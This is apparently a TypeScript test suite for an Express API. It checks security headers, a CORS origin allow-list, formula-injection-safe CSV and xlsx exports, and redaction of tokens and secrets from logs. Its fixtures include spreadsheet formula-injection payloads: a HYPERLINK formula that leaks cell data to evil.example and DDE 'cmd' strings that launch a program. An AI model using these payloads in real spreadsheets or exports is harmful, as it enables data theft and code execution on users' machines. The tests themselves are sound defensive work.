/**
 * OWASP API8:2023 Security Misconfiguration — security headers and CORS on every answer; exports safe from
 * spreadsheet formula injection (CSV injection); secrets never in the logs.
 */
import request from 'supertest';
import type { Express } from 'express';
import ExcelJS from 'exceljs';
import { SignJWT } from 'jose';
import { createLogger } from '../../api/logger';
import { ConfigError, loadConfig } from '../../config';
import { CREATE_PROJECT_EXAMPLE } from '../../api/schemas';
import { looksLikeFormula } from '../../reports/export';
import { startTestSystem, type TestSystem } from '../support/harness';
import { testApp, token } from '../support/api';

let sys: TestSystem;
let app: Express;
const CONSOLE_ORIGIN = 'https://console.linfen.example';

beforeAll(async () => {
  sys = await startTestSystem();
  app = testApp(sys, { corsOrigins: [CONSOLE_ORIGIN] });
});
afterAll(async () => {
  await sys?.close();
});

const bearer = async (sub: string, org: string, role: string) => `Bearer ${await token(sub, org, role)}`;

describe('security headers and CORS', () => {
  test('every answer, success or problem, carries the security headers and no fingerprint', async () => {
    const answers = [
      await request(app)
        .get('/api/v1/orgs')
        .set('Authorization', await bearer('u', 'yaodu', 'applicant')),
      await request(app).get('/api/v1/orgs'),
      await request(app).get('/api/v1/no-such-route'),
    ];
    expect(answers.map((r) => r.status)).toEqual([200, 401, 401]);
    for (const res of answers) {
      expect(res.headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'referrer-policy': 'no-referrer',
        'cross-origin-resource-policy': 'same-origin',
        'cache-control': 'no-store',
      });
      expect(res.headers['strict-transport-security']).toMatch(/max-age=\d+/);
      expect(res.headers['content-security-policy']).toMatch(/default-src 'self'/);
      expect(res.headers['content-security-policy']).toMatch(/frame-ancestors 'self'/);
      expect(res.headers['x-powered-by']).toBeUndefined();
    }
  });

  test('CORS admits the configured console origin only, never any origin and never credentials', async () => {
    const preflight = (origin: string) =>
      request(app)
        .options('/api/v1/projects')
        .set('Origin', origin)
        .set('Access-Control-Request-Method', 'POST')
        .set('Access-Control-Request-Headers', 'authorization,content-type');

    const allowed = await preflight(CONSOLE_ORIGIN);
    expect(allowed.status).toBe(204);
    expect(allowed.headers['access-control-allow-origin']).toBe(CONSOLE_ORIGIN);
    expect(allowed.headers['access-control-allow-credentials']).toBeUndefined();

    const foreign = await preflight('https://evil.example');
    expect(foreign.headers['access-control-allow-origin']).toBeUndefined();
    const foreignGet = await request(app)
      .get('/api/v1/orgs')
      .set('Origin', 'https://evil.example')
      .set('Authorization', await bearer('u', 'yaodu', 'applicant'));
    expect(foreignGet.headers['access-control-allow-origin']).toBeUndefined();

    // Without configured origins (the default) no origin is admitted.
    const closed = await request(testApp(sys)).options('/api/v1/projects').set('Origin', CONSOLE_ORIGIN);
    expect(closed.headers['access-control-allow-origin']).toBeUndefined();
  });
});

describe('exports and formula injection', () => {
  const HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    '+SUM(1,2)供热工程',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
  ];

  beforeAll(async () => {
    const applicant = await bearer('owner', 'yaodu', 'applicant');
    for (const name of HOSTILE_NAMES) {
      // Without a lead leader: the data-quality report lists the project by name.
      const { assignedLeader: _none, ...body } = CREATE_PROJECT_EXAMPLE;
      const res = await request(app)
        .post('/api/v1/projects')
        .set('Authorization', applicant)
        .send({ ...body, name });
      expect(res.status).toBe(201);
    }
  });

  /** RFC 4180 fields of a CSV text. */
  function csvFields(text: string): string[] {
    const fields: string[] = [];
    let i = 0;
    while (i < text.length) {
      if (text[i] === '"') {
        let v = '';
        i++;
        while (i < text.length) {
          if (text[i] === '"' && text[i + 1] === '"') {
            v += '"';
            i += 2;
          } else if (text[i] === '"') {
            i++;
            break;
          } else v += text[i++];
        }
        fields.push(v);
      } else {
        const end = text.slice(i).search(/[,\r\n]/);
        fields.push(end < 0 ? text.slice(i) : text.slice(i, i + end));
        i = end < 0 ? text.length : i + end;
      }
      while (text[i] === ',' || text[i] === '\r' || text[i] === '\n') i++;
    }
    return fields;
  }

  test('a CSV export writes a project named like a formula as text: a leading quote, the name intact', async () => {
    const res = await request(app)
      .get('/api/v1/supervision/data-quality?format=csv')
      .set('Authorization', await bearer('sup', 'project-center', 'supervisor'))
      .buffer(true)
      .parse((r, done) => {
        let text = '';
        r.on('data', (c: Buffer) => (text += c.toString('utf8')));
        r.on('end', () => done(null, text));
      });
    expect(res.status).toBe(200);
    const fields = csvFields(res.body as string);
    for (const name of HOSTILE_NAMES) {
      expect(fields).toContain(`'${name}`);
      expect(fields).not.toContain(name);
    }
    // No field of the export starts a formula; numbers (signed points, negative amounts) are not text.
    expect(fields.filter((f) => looksLikeFormula(f))).toEqual([]);
    expect(['-1.25', '+0.50', '-3', '12.5%'].filter(looksLikeFormula)).toEqual([]);
  });

  test('an .xlsx export writes a project named like a formula as a text cell, never a formula', async () => {
    const res = await request(app)
      .get('/api/v1/supervision/data-quality?format=xlsx')
      .set('Authorization', await bearer('sup', 'project-center', 'supervisor'))
      .buffer(true)
      .parse((r, done) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never);
    const cells: ExcelJS.Cell[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    for (const name of HOSTILE_NAMES) {
      const cell = cells.find((c) => c.value === name);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
    }
  });
});

describe('secrets are never logged', () => {
  const SECRET = 'log-test-secret-that-must-never-appear-0123456789';

  test('tokens, the signing secret and a token pasted into a URL stay out of the request log', async () => {
    const lines: string[] = [];
    const logged = testApp(sys, {
      auth: { jwtSecret: SECRET },
      signIn: { localSignIn: true, jwtSecret: SECRET },
      logger: createLogger('debug', (l) => lines.push(l)),
    });
    const valid = await new SignJWT({ org: 'yaodu', roles: ['applicant'] })
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject('wang')
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode(SECRET));
    const forged = `${valid.slice(0, -6)}AAAAAA`;

    expect((await request(logged).get('/api/v1/orgs').set('Authorization', `Bearer ${valid}`)).status).toBe(
      200,
    );
    expect((await request(logged).get('/api/v1/orgs').set('Authorization', `Bearer ${forged}`)).status).toBe(
      401,
    );
    const pasted = await request(logged)
      .get(`/api/v1/projects?limit=5&access_token=${valid}`)
      .set('Authorization', `Bearer ${valid}`);
    expect(pasted.status).toBe(400); // an unknown query parameter; the request is still logged
    const signedIn = await request(logged)
      .post('/api/v1/session/local')
      .send({ org: 'yaodu', role: 'applicant', userId: 'wang.gong', name: '王工' });
    expect(signedIn.status).toBe(201);
    const issued = signedIn.body.token as string;

    const log = lines.join('\n');
    expect(lines.length).toBeGreaterThanOrEqual(4);
    for (const secret of [SECRET, valid, forged, issued, valid.split('.')[2]!, issued.split('.')[2]!]) {
      expect(log).not.toContain(secret);
    }
    expect(log).toContain('access_token=[redacted]');
    expect(log).toContain('limit=5');
  });

  test('a configuration error names the variable, never its value', () => {
    const env = { JWT_SECRET: 'short-secret-value', SMTP_PASSWORD: 'smtp-password-value', API_PORT: 'x' };
    let message = '';
    try {
      loadConfig(env);
    } catch (err) {
      expect(err).toBeInstanceOf(ConfigError);
      message = (err as Error).message;
    }
    expect(message).toMatch(/JWT_SECRET/);
    expect(message).not.toContain(env.JWT_SECRET);
    expect(message).not.toContain(env.SMTP_PASSWORD);
  });
});
